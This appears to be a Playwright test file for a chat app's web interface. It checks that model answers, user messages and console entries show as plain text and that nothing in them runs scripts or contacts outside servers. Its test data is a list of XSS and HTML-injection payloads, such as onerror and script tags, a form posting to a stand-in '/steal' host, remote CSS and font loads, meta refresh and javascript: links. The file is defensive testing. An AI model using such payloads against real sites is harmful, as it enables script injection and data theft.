"""Messages in a real Chromium: all of them is seen, none of them does anything."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, expect
from playwright.sync_api import Page as Tab

from app.conversation import AnswerUpdate
from app.service import Service
from app.ui.exchange import Exchange, Page
from engine.errors import InvalidText
from tests.app.conftest import NEEDS_CHROMIUM

pytestmark = NEEDS_CHROMIUM
ELSEWHERE = "http://elsewhere.test"
GENERICS = "Use vector<int> or Map<String, List<T>> and <restate here>. If a<b and c>d then x."
SHOWN_AS_TYPED = [
    GENERICS,
    "<note><to>Tove</to><from>Jani</from></note>",
    "<test>\nline after",
    "<!-- a comment --> and <?xml version='1.0'?> and <![CDATA[x]]>",
    "&lt;b&gt; &amp;amp; &nbsp; &#x41;",
    "$5 and $10, $$ or $$$ a night",
    r"C:\(new)\temp and \\server\share \d+\.txt",
    "%%%LATEX_BLOCK_0%%%",
    '<img src="x" onerror="window.hacked=1"><script>window.hacked=1</script>',
    f"<img src={ELSEWHERE}/img.png onerror=window.hacked=1>",
    f"<style>body{{background:url({ELSEWHERE}/style.png);display:none}}</style>",
    f'<div style="background:url({ELSEWHERE}/bg.png);position:fixed;inset:0">over all</div>',
    f'<form action="{ELSEWHERE}/steal"><input name=q><button id=bait>Continue</button></form>',
    f'<link rel="stylesheet" href="{ELSEWHERE}/a.css"><link rel="prefetch" href="{ELSEWHERE}/b">',
    f"<style>@font-face{{font-family:x;src:url({ELSEWHERE}/font)}}*{{font-family:x}}</style>",
    f'<svg onload="window.hacked=1"><image href="{ELSEWHERE}/svg.png"/></svg>',
    f'<video src="{ELSEWHERE}/v.mp4" poster="{ELSEWHERE}/p.png" autoplay></video>',
    f'<iframe src="{ELSEWHERE}/frame"></iframe><object data="{ELSEWHERE}/object"></object>',
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/meta"><base href="{ELSEWHERE}/">',
    "[a link](javascript:window.hacked=1) and [data](data:text/html,<script>1</script>)",
    "[the console](/console) and ![local](/gradio_api/file=secret)",
    "</div></div></span>closed</textarea></script><b>bold</b>",
    '"></data><data value="another source',
]
MARKDOWN = [  # and what is seen of it
    (f"![]({ELSEWHERE}/markdown.png)", "🖼 elsewhere.test"),
    (f"![a cat]({ELSEWHERE}/cat.png 'title')", "🖼 a cat (elsewhere.test)"),
    (f"[![cat]({ELSEWHERE}/in-link.png)]({ELSEWHERE})", f"🖼 cat ({ELSEWHERE}/in-link.png)"),
    (f"[]({ELSEWHERE}/empty)", f"{ELSEWHERE}/empty"),
    ("Use `vector<int>` and `&lt;`.", "Use vector<int> and &lt;."),
    ("```html\n<script>window.hacked=1</script>\n", "html\n<script>window.hacked=1</script>"),
    ("`\\(x\\)` and `$$y$$`", "\\(x\\) and $$y$$"),
]


class Fetched:
    """Every request a tab makes."""

    def __init__(self, tab: Tab) -> None:
        self.urls: list[str] = []
        tab.context.on("request", lambda request: self.urls.append(request.url))

    def elsewhere(self, origin: str) -> list[str]:
        """Those to another server than the page's own."""
        local = (origin, "data:", "blob:")
        return [url for url in self.urls if not url.startswith(local)]


@pytest.fixture
def tab(chromium: Browser) -> Iterator[Tab]:
    """A new person's browser tab."""
    context = chromium.new_context(locale="en-US", viewport={"width": 1280, "height": 800})
    yield context.new_page()
    context.close()


def says(monkeypatch: pytest.MonkeyPatch, service: Service, text: str, thought: str = "") -> None:
    """Let the model answer with a text, whatever was asked, in two pieces."""

    def answer(*_: Any, **__: Any) -> Iterator[AnswerUpdate]:
        yield AnswerUpdate(None, thought, text[: len(text) // 2], "streaming")
        yield AnswerUpdate(None, thought, text, "done")

    monkeypatch.setattr(service.chat, "ask", answer)


def open_chat(tab: Tab, url: str) -> None:
    tab.goto(url)
    expect(tab.locator("#question textarea")).to_be_visible(timeout=30_000)


def ask(tab: Tab, question: str) -> None:
    tab.fill("#question textarea", question)
    tab.click("#send")


def seen(text: str) -> str:
    """A text without the layout's blank lines and tabs."""
    return "\n".join(line.strip() for line in text.splitlines() if line.strip())


@pytest.fixture
def conversation(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Let each tab begin with a conversation of all these messages, in questions, thoughts,
    answers, corrections and notes. Returns what is to be seen of it."""
    typed = [Exchange(t, thought=t, answer=t, correction=t, note=t) for t in SHOWN_AS_TYPED]
    marked = [Exchange(text, answer=text) for text, _ in MARKDOWN]
    monkeypatch.setattr("app.ui.chat.Page", lambda: Page(exchanges=[*typed, *marked]))
    return [
        *(text for text in SHOWN_AS_TYPED for _ in range(5)),
        *(each for text_and_shown in MARKDOWN for each in text_and_shown),
    ]


def test_all_of_a_message_is_seen_and_none_of_it_does_anything(
    conversation: list[str], url: str, tab: Tab, service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    says(monkeypatch, service, "The end.")
    fetched = Fetched(tab)
    open_chat(tab, url)
    ask(tab, "Last?")
    expect(tab.locator("#chat [data-testid=bot]").last).to_contain_text("The end.", timeout=60_000)
    folded = "document.querySelectorAll('.thought-group > [role=button]')"
    tab.evaluate(f"{folded}.forEach(title => title.click())")
    wanted = [*conversation, "Last?", "The end."]
    expect(tab.locator("#chat .rendered")).to_have_count(len(wanted), timeout=20_000)

    messages = [seen(text) for text in tab.locator("#chat .rendered").all_inner_texts()]
    assert messages == [seen(text) for text in wanted]
    assert tab.evaluate("window.hacked") is None
    assert tab.url.rstrip("/") == url
    assert fetched.elsewhere(url) == []
    acting = (
        "img, form, input, style, link, script, svg, video, iframe, object, base, meta, [style]"
    )
    assert tab.locator(f"#chat .rendered :is({acting})").count() == 0
    links = tab.locator("#chat .rendered a")
    assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer"}

    def refuse(*_: Any, **__: Any) -> Iterator[AnswerUpdate]:
        raise InvalidText(SHOWN_AS_TYPED[9])
        yield

    monkeypatch.setattr(service.chat, "ask", refuse)
    ask(tab, "Last?")
    expect(tab.get_by_test_id("toast-text")).to_have_text(SHOWN_AS_TYPED[9], timeout=20_000)
    assert fetched.elsewhere(url) == []


def test_code_and_formulas_are_drawn_and_copied_as_they_were_written(
    url: str, tab: Tab, service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    """C++ at the start of the first answer is where a highlighter that loads its languages when
    they are first seen leaves an empty bubble."""
    answer = (
        '```cpp\n\tint a = 1 < 2;\n```\n\n\\( a_1 \\) &lt; "b" for $5 and $10:\n\n'
        "\\[ \\frac{1}{2} \\]\n\n$$E=mc^2$$\n\n`\\(code\\)`"
    )
    question, thought = "What\n\tis <this> \\(x\\)?", "Is <it> so?"
    says(monkeypatch, service, answer, thought)
    tab.context.grant_permissions(["clipboard-read", "clipboard-write"])
    message = tab.locator("#chat [data-testid=bot] .rendered").last
    for _ in range(3):
        open_chat(tab, url)
        ask(tab, question)
        expect(message.locator("pre .kt")).to_have_text("int", timeout=20_000)
        expect(message.locator("pre")).to_have_text("int a = 1 < 2;")

    expect(message.locator(".katex")).to_have_count(3)
    expect(message.locator(".katex-display")).to_have_count(2)
    expect(message.locator(".katex-error")).to_have_count(0)
    expect(message).to_contain_text('&lt; "b" for $5 and $10:')
    expect(message.locator("p > code")).to_have_text("\\(code\\)")
    expect(tab.locator("#chat [data-testid=user]")).to_contain_text("is <this> \\(x\\)?")

    for number, text in enumerate((question, thought, answer)):
        tab.get_by_label(re.compile("Cop(y|ied) message")).nth(number).click()
        assert tab.evaluate("navigator.clipboard.readText()") == text
    tab.click("#chat .copy_code_button")
    assert tab.evaluate("navigator.clipboard.readText()") == "int a = 1 < 2;"


def test_where_a_page_may_not_use_the_clipboard_the_copy_button_still_does(
    url: str, tab: Tab, service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Over plain HTTP a browser offers no clipboard; the window then copies a text area."""
    tab.add_init_script("delete Navigator.prototype.clipboard")
    says(monkeypatch, service, "a < **b**")
    open_chat(tab, url)
    ask(tab, "What?")
    expect(tab.locator("#chat strong")).to_be_visible(timeout=20_000)
    tab.get_by_label("Copy message").last.click()
    tab.focus("#question textarea")
    tab.keyboard.press("Control+V")
    expect(tab.locator("#question textarea")).to_have_value("a < **b**")


def test_the_console_shows_what_people_wrote_as_text(url: str, tab: Tab, service: Service) -> None:
    text = f"<img src={ELSEWHERE}/c.png onerror=window.hacked=1> ![]({ELSEWHERE}/d.png) a<b **c**"
    *_, answer = service.chat.ask("ann", text, conversation_id="c")
    store, answer_id = service.workspace.store, str(answer.answer_id)
    store.vote(answer_id, "ann", -1, comment=text)
    store.correct(answer_id, "ann", text)
    service.last_round = f"failed: {text}"
    fetched = Fetched(tab)
    tab.goto(f"{url}/console")
    status = tab.locator("#status textarea")
    expect(status).to_have_value(re.compile(re.escape(text)), timeout=30_000)
    tab.get_by_role("tab", name="Training data").click()
    expect(tab.locator("#rows td").filter(has_text=text)).to_have_count(2, timeout=20_000)
    assert tab.evaluate("window.hacked") is None
    assert fetched.elsewhere(url) == []
